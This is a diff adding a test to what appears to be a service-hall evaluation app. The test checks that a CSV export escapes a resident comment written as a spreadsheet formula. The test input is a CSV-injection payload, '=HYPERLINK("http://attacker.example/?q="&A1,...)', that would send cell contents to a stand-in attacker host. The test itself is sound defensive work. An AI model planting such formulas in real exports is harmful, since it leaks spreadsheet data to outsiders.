@@ -154,3 +154,17 @@ def test_an_unknown_profile_is_refused_with_its_place(tmp_path: Path) -> None:
     path.write_text(text, encoding="utf-8")
     with pytest.raises(ConfigError, match=r"hall\[0\]\.evaluation_push\.profile: \"mars\" is not one of zhejiang"):
         load_config(path)
+
+
+def test_a_comment_written_as_a_formula_stays_text_in_the_csv(
+    make_app_hall: Callable[..., AppHall], province: Receiver
+) -> None:
+    """A resident's `=HYPERLINK(...)` comment is a cell of text in Excel, not a formula (docs/api.md, Exports)."""
+    app = make_app_hall("sqlite", edit=pushing(province.url("/province/assess")))
+    rated(app, 5, comment='=HYPERLINK("http://attacker.example/?q="&A1,"详情")')
+    today = app.ctx.hall("town").day_of(app.clock.now())
+    r = app.get(f"/api/v1/halls/town/evaluations?from={today}&to={today}&format=csv", app.admin_token())
+    assert r.status_code == 200, r.text
+    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
+    comment = rows[1][rows[0].index("writingEvaluation")]
+    assert comment.startswith("'=HYPERLINK("), comment
